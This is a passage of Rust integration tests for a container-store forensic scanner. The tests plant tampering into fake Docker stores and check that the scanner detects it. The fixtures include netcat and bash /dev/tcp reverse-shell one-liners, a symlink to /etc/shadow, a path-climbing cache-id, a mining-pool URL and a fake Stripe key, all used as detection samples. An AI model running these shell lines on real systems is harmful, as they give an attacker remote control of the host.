    let changed = anomalies(&report, "store-layer-changed");
    assert_eq!(changed.len(), 1, "{changed:?}");
    assert!(changed[0].contains("/etc/passwd") && changed[0].contains("not in the pulled layer"), "{}", changed[0]);
    assert_eq!(image_named(&report, "dive-test:latest")["verified"], false);
    std::fs::write(&passwd, &original).unwrap();
    std::fs::File::options().write(true).open(&passwd).unwrap().set_modified(mtime).unwrap();
    // A file planted in it is read as a container would see it.
    std::fs::write(top.join("root/.data/backdoor.sh"), b"#!/bin/sh\nnc -e /bin/sh 198.51.100.23 4444\n").unwrap();
    let report = scan(store);
    let changed = anomalies(&report, "store-layer-changed");
    assert_eq!(changed.len(), 1, "{changed:?}");
    assert!(changed[0].contains("/root/.data/backdoor.sh"), "{}", changed[0]);
    let dive = sightings(image_named(&report, "dive-test:latest"));
    assert!(dive.iter().any(|(_, place, ..)| place == "/root/.data/backdoor.sh"), "{dive:#?}");
}

/// The vfs copy of the image's top layer: the layer a container's mount names as its parent.
fn vfs_top_layer_dir(store: &Path) -> PathBuf {
    vfs_layer_dir(store, &vfs_chain(store)[0])
}

/// The image's layerdb entries from the top down, by a container's mount's `parent`.
fn vfs_chain(store: &Path) -> Vec<PathBuf> {
    let mounts = store.join("image/vfs/layerdb/mounts");
    let mount = std::fs::read_dir(&mounts).unwrap().next().unwrap().unwrap().path();
    let mut next = std::fs::read_to_string(mount.join("parent")).ok();
    let mut chain = Vec::new();
    while let Some(id) = next {
        let layerdb = store.join("image/vfs/layerdb/sha256").join(id.trim().trim_start_matches("sha256:"));
        next = std::fs::read_to_string(layerdb.join("parent")).ok();
        chain.push(layerdb);
    }
    chain
}

fn vfs_layer_dir(store: &Path, layerdb: &Path) -> PathBuf {
    store.join("vfs/dir").join(std::fs::read_to_string(layerdb.join("cache-id")).unwrap().trim())
}

/// The kept vfs store, damaged as a hostile or partial copy would be: a link out of the store
/// planted where a file was, the copy below a layer gone, a `cache-id` that climbs. Each is
/// named; nothing outside the store is read.
#[test]
fn a_vfs_store_with_a_link_planted_a_copy_gone_and_an_id_that_climbs_is_read_for_what_is_there() {
    if std::fs::metadata("/proc/self").map(|m| m.uid()).unwrap_or(1) != 0 {
        eprintln!("SKIPPED: unpacking tests/data/docker-vfs-store.tar.xz needs root (the layers' files are owned by root)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let status =
        Command::new("tar").arg("-xJf").arg(common::repo_path("tests/data/docker-vfs-store.tar.xz")).arg("-C").arg(dir.path()).status();
    assert!(status.unwrap().success(), "tar unpacks the kept store");
    let store = dir.path();
    let chain = vfs_chain(store);
    let top = vfs_layer_dir(store, &chain[0]);
    std::fs::remove_file(top.join("etc/shadow")).unwrap();
    std::os::unix::fs::symlink("/etc/shadow", top.join("etc/shadow")).unwrap();
    let gone = vfs_layer_dir(store, &chain[3]);
    std::fs::remove_dir_all(&gone).unwrap();
    std::fs::write(chain[chain.len() - 1].join("cache-id"), "../../../etc").unwrap();
    let report = scan_read_only(store, "docker-store", common::scan_with_builtin_packs);
    assert!(anomalies(&report, "store-id-invalid").iter().any(|m| m.contains("cache-id") && m.contains("../../../etc")), "{report:#}");
    let missing = anomalies(&report, "store-layer-missing");
    let gone_name = gone.file_name().unwrap().to_str().unwrap();
    assert!(missing.iter().any(|m| m.contains(gone_name) && m.contains("not in the store")), "{missing:#?}");
    assert!(missing.iter().any(|m| m.contains("is unknown") && m.contains("taken as the layer's")), "{missing:#?}");
    let changed = anomalies(&report, "store-layer-changed");
    assert!(changed.iter().any(|m| m.contains("/etc/shadow")), "{changed:#?}");
    assert_eq!(image_named(&report, "dive-test:latest")["verified"], false);
}

// ---------------------------------------------------------------- stores built in code

fn base_layers() -> Vec<Vec<u8>> {
    vec![
        layer_tar(&[
            ("bin/", b""),
            ("bin/tool", b"#!/bin/sh\necho tool\n"),
            ("etc/", b""),
            ("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n"),
        ]),
        layer_tar(&[("app/", b""), ("app/server.sh", b"#!/bin/sh\nexec httpd\n")]),
        // On disk: `app` opaque by its xattr, `bin/tool` a character device 0/0.
        layer_tar(&[
            ("app/", b""),
            ("app/.wh..wh..opq", b""),
            ("app/run.sh", b"#!/bin/sh\nexec httpd -f\n"),
            ("bin/", b""),
            ("bin/.wh.tool", b""),
        ]),
    ]
}

fn scan(root: &Path) -> Value {
    let scratch = tempfile::tempdir().unwrap();
    common::scan_with_builtin_packs(&[root.to_path_buf()], scratch.path())
}

fn anomalies<'r>(report: &'r Value, kind: &str) -> Vec<&'r str> {
    report["inputs"][0]["anomalies"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["kind"] == kind)
        .map(|a| a["message"].as_str().unwrap())
        .collect()
}

#[test]
fn an_untouched_store_verifies_and_a_changed_layer_names_its_first_difference() {
    let dir = tempfile::tempdir().unwrap();
    let docker = FakeDocker::new(dir.path());
    let image = docker.image("shop:1", &base_layers());
    let report = scan(dir.path());
    let shop = image_named(&report, "shop:1");
    assert_eq!(shop["verified"], true, "{:#}", report["inputs"][0]["anomalies"]);
    assert!(anomalies(&report, "store-layer-changed").is_empty());
    // The overlayfs markers read as the OCI ones: server.sh hidden by the opaque directory,
    // the tool deleted.
    let hidden: Vec<(&str, &str)> =
        shop["hidden_versions"].as_array().unwrap().iter().map(|v| (v["path"].as_str().unwrap(), v["state"].as_str().unwrap())).collect();
    assert_eq!(hidden, [("/app/server.sh", "deleted"), ("/bin/tool", "deleted")]);

    // A file planted in a lower layer after the pull.
    let layer = docker.layer_dir(&image, 1);
    std::fs::write(layer.join("app/backdoor.sh"), b"#!/bin/sh\nnc -e /bin/sh 198.51.100.23 4444\n").unwrap();
    let report = scan(dir.path());
    let changed = anomalies(&report, "store-layer-changed");
    assert_eq!(changed.len(), 1, "{changed:?}");
    assert!(changed[0].contains("/app/backdoor.sh") && changed[0].contains("added after the pull"), "{}", changed[0]);
    assert_eq!(image_named(&report, "shop:1")["verified"], false);
    // The planted file is read as the container would see it.
    let files: Vec<String> = image_named(&report, "shop:1")["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| f["locations"].as_array().unwrap().iter().filter_map(|l| l["path"].as_str().map(String::from)))
        .collect();
    assert!(files.iter().any(|p| p == "/app/backdoor.sh"), "{files:?}");
    std::fs::remove_file(layer.join("app/backdoor.sh")).unwrap();
    // Taking it away changed the directory's time: the record says 0 (the tar's).
    common::store::set_mtime(&layer.join("app"), 0);
    assert!(anomalies(&scan(dir.path()), "store-layer-changed").is_empty(), "the layer is the pulled one again");

    // The same size, other bytes: found by the record's CRC-64.
    let passwd = docker.layer_dir(&image, 0).join("etc/passwd");
    let mtime = std::fs::metadata(&passwd).unwrap().mtime() as u64;
    std::fs::write(&passwd, b"root:x:0:0:root:/root:/bin/zz\n").unwrap();
    common::store::set_mtime(&passwd, mtime);
    let report = scan(dir.path());
    let changed = anomalies(&report, "store-layer-changed");
    assert_eq!(changed.len(), 1, "{changed:?}");
    assert!(changed[0].contains("/etc/passwd") && changed[0].contains("CRC-64"), "{}", changed[0]);
}

#[test]
fn a_containers_settings_and_log_are_checked_and_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let docker = FakeDocker::new(dir.path());
    let image = docker.image("shop:1", &base_layers());
    let changes = layer_tar(&[("tmp/", b""), ("tmp/notes.txt", b"all good\n")]);
    let host = json!({
        "Privileged": true, "PidMode": "host", "NetworkMode": "host", "CapAdd": ["SYS_ADMIN"],
        "Binds": ["/var/run/docker.sock:/var/run/docker.sock", "/:/host", "/srv/data:/data:ro"],
    });
    let config = json!({"Env": ["PATH=/usr/bin:/bin", "STRIPE_KEY=sk_live_51Hc8UQJvEXAMPLEkeyNotRealX9zQ4tW7"], "Cmd": ["/bin/sh"], "Labels": {"team": "shop"}});
    let container = docker.container("web", &image, &changes, config, host);
    docker.log(&container, &["starting", "fetching http://pool.supportxmr.com/miner", "ready"]);
    let report = scan(dir.path());
    let web = image_named(&report, "container/web");
    let seen = sightings(web);
    let rule_at = |detector: &str, place: &str| seen.iter().find(|(d, p, ..)| d == detector && p == place).map(|s| s.4.clone());
    assert_eq!(rule_at("meta:container-privileged", "hostconfig.Privileged").as_deref(), Some("high"), "{seen:#?}");
    assert_eq!(rule_at("meta:container-host-namespace", "hostconfig.PidMode").as_deref(), Some("high"));
    assert_eq!(rule_at("meta:container-host-namespace", "hostconfig.NetworkMode").as_deref(), Some("medium"));
    assert_eq!(rule_at("meta:container-added-capability", "hostconfig.CapAdd[0]").as_deref(), Some("high"));
    assert_eq!(rule_at("meta:container-engine-socket", "hostconfig.Binds[0]").as_deref(), Some("critical"));
    assert_eq!(rule_at("meta:container-host-path-mount", "hostconfig.Binds[1]").as_deref(), Some("critical"));
    assert_eq!(rule_at("meta:container-host-path-mount", "hostconfig.Binds[2]"), None, "an ordinary data directory is no finding");
    assert!(seen.iter().any(|(d, p, ..)| d == "ioc:mining-pool" && p == "container.log"), "{seen:#?}");
    assert!(seen.iter().any(|(d, p, ..)| d.starts_with("secrets:stripe") && p.starts_with("config.env[")), "{seen:#?}");
    assert_eq!(web["container"]["log"]["file"], format!("containers/{}/{}-json.log", container.id, container.id));
    // The image alone carries none of the container's findings.
    assert!(!sightings(image_named(&report, "shop:1")).iter().any(|(d, ..)| d.starts_with("meta:container")));
}

#[test]
fn the_cli_reads_a_store_into_every_format_with_runtime_times_in_the_bodyfile() {
    let dir = tempfile::tempdir().unwrap();
    let docker = FakeDocker::new(&dir.path().join("docker"));
    let image = docker.image("shop:1", &base_layers());
    let changes = layer_tar(&[("tmp/", b""), ("tmp/dropped.sh", b"#!/bin/sh\necho hi\n")]);
    let container = docker.container("web", &image, &changes, json!({"Cmd": ["/bin/sh"]}), json!({}));
    let dropped = docker.root.join("overlay2").join(&container.mount_id).join("diff/tmp/dropped.sh");
    let disk = std::fs::symlink_metadata(&dropped).unwrap();
    let out = dir.path().join("out");
    let status = Command::new(env!("CARGO_BIN_EXE_layerhound"))
        .arg("scan")
        .arg(&docker.root)
        .args(["--store", "docker", "--no-builtin", "-q", "--format", "json,bodyfile,sarif,text,csv,files-csv", "-o"])
        .arg(&out)
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(0), "no finding without packs, everything read");
    let report: Value = serde_json::from_slice(&std::fs::read(out.join("report.json")).unwrap()).unwrap();
    let schema: Value = serde_json::from_slice(&std::fs::read(common::repo_path("docs/report.schema.json")).unwrap()).unwrap();
    let validator = jsonschema::draft202012::new(&schema).unwrap();
    let errors: Vec<String> = validator.iter_errors(&report).map(|e| format!("{} at {}", e, e.instance_path())).take(5).collect();
    assert!(errors.is_empty(), "{errors:#?}");
    // The writable layer's file: its times on disk, ctime included (what `touch` cannot fake).
    let body = std::fs::read_to_string(out.join("report.body")).unwrap();
    let line = body
        .lines()
        .find(|l| l.contains("/tmp/dropped.sh (layer 4, present, added at runtime) [container/web"))
        .unwrap_or_else(|| panic!("{body}"));
    let fields: Vec<&str> = line.split('|').collect();
    assert_eq!(&fields[7..10], &[disk.atime().to_string(), disk.mtime().to_string(), disk.ctime().to_string()], "{line}");
    // Image layers' times are the tar's: no atime or ctime.
    let passwd = body.lines().find(|l| l.contains("/etc/passwd (layer 0, present) [shop:1")).unwrap();
    assert_eq!(passwd.split('|').nth(9), Some("0"), "{passwd}");
    assert!(body.contains("|/.dockerenv (layer 3, present, written by the engine for the container) [container/web"), "{body}");
    assert!(std::fs::read_to_string(out.join("report.txt")).unwrap().contains("container web"));
    // The spreadsheets name the container and what it did, as the JSON does.
    let mut findings = csv::Reader::from_path(out.join("report.csv")).unwrap();
    let columns: Vec<String> = findings.headers().unwrap().iter().map(String::from).collect();
    assert!(columns.contains(&"container".into()) && columns.contains(&"runtime".into()), "a header even with no finding: {columns:?}");
    assert_eq!(findings.records().count(), 0);
    let mut files = csv::Reader::from_path(out.join("report.files.csv")).unwrap();
    let columns = files.headers().unwrap().clone();
    let column = |name: &str| columns.iter().position(|c| c == name).unwrap();
    let rows: Vec<csv::StringRecord> = files.records().map(Result::unwrap).collect();
    let change = |path: &str| {
        let row = rows.iter().find(|r| &r[column("path")] == path && &r[column("container")] == "web").unwrap_or_else(|| panic!("{path}"));
        row[column("runtime")].to_string()
    };
    assert_eq!(
        (change("/tmp/dropped.sh"), change("/.dockerenv"), change("/etc/hostname")),
        ("added".into(), "engine".into(), "engine".into())
    );
    assert!(rows.iter().filter(|r| r[column("container")].is_empty()).all(|r| r[column("runtime")].is_empty()), "an image has no runtime");
    // `ls` and `cat` on the container, and `diff` against its image.
    let run = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_layerhound")).args(args).output().unwrap();
        (out.status.code(), String::from_utf8_lossy(&out.stdout).into_owned())
    };
    let root = docker.root.to_str().unwrap();
    let (_, listing) = run(&["ls", root, "--image", "container/web", "--layer", "4"]);
    assert!(listing.contains("/tmp/dropped.sh"), "{listing}");
    let (_, bytes) = run(&["cat", root, "/tmp/dropped.sh", "--image", "container/web"]);
    assert_eq!(bytes, "#!/bin/sh\necho hi\n");
    let (code, diff) = run(&["diff", root, "--image-a", "shop:1", "--image-b", "container/web", "--no-builtin", "--format", "json"]);
    assert_eq!(code, Some(1), "{diff}");
    let diff: Value = serde_json::from_str(&diff).unwrap();
    let added: Vec<(&str, &str)> =
        diff["added"].as_array().unwrap().iter().map(|a| (a["path"].as_str().unwrap(), a["b"]["runtime"].as_str().unwrap_or(""))).collect();
    // The diff tells what the container did from what the engine wrote for it.
    assert!(added.contains(&("/tmp/dropped.sh", "added")) && added.contains(&("/.dockerenv", "engine")), "{added:?}");
    let (_, text) = run(&["diff", root, "--image-a", "shop:1", "--image-b", "container/web", "--no-builtin", "--format", "text"]);
    assert!(text.contains("(written by the engine for the container)") && text.contains("(added at runtime)"), "{text}");
}

#[test]
fn what_the_engine_writes_in_an_init_layer_is_not_the_containers_doing_and_a_file_planted_there_is() {
    let dir = tempfile::tempdir().unwrap();
    let docker = FakeDocker::new(dir.path());
    let image = docker.image("shop:1", &base_layers());
    let container = docker.container("web", &image, &layer_tar(&[("tmp/", b"")]), json!({"Cmd": ["/bin/sh"]}), json!({}));
    // Docker writes its init files empty (the real ones are mounted over them): one with content,
    // or a file it never writes, was put in the init directory some other way.
    let init = docker.root.join("overlay2").join(format!("{}-init/diff", container.mount_id));
    std::fs::write(init.join("etc/hosts"), b"198.51.100.23 updates.example\n").unwrap();
    std::fs::create_dir_all(init.join("usr/local/bin")).unwrap();
    std::fs::write(init.join("usr/local/bin/update.sh"), b"#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n").unwrap();
    let scratch = tempfile::tempdir().unwrap();
    let report = common::scan_with_inventory(&[dir.path().to_path_buf()], scratch.path());
    let web = image_named(&report, "container/web");
    assert_eq!(web["container"]["init_layer"], 3);
    let change = |path: &str| {
        let version = web["files"].as_array().unwrap().iter().find(|v| v["path"] == path && v["layer"] == 3);
        version.unwrap_or_else(|| panic!("{path}"))["runtime"].as_str().unwrap_or("").to_string()
    };
    for (path, expected) in
        [("/.dockerenv", "engine"), ("/etc/hostname", "engine"), ("/etc/hosts", "added"), ("/usr/local/bin/update.sh", "added")]
    {
        assert_eq!(change(path), expected, "{path}");
    }
    // The image's /etc is hidden by the engine's.
    let etc = web["files"].as_array().unwrap().iter().find(|v| v["path"] == "/etc" && v["layer"] == 0).unwrap();
    assert_eq!(etc["runtime"], "engine");
    let seen = sightings(web);
    assert!(
        seen.iter()
            .any(|(d, p, _, runtime, _)| d == "layerhound:reverse_shell_dev_tcp" && p == "/usr/local/bin/update.sh" && runtime == "added"),
        "{seen:#?}"
    );
}
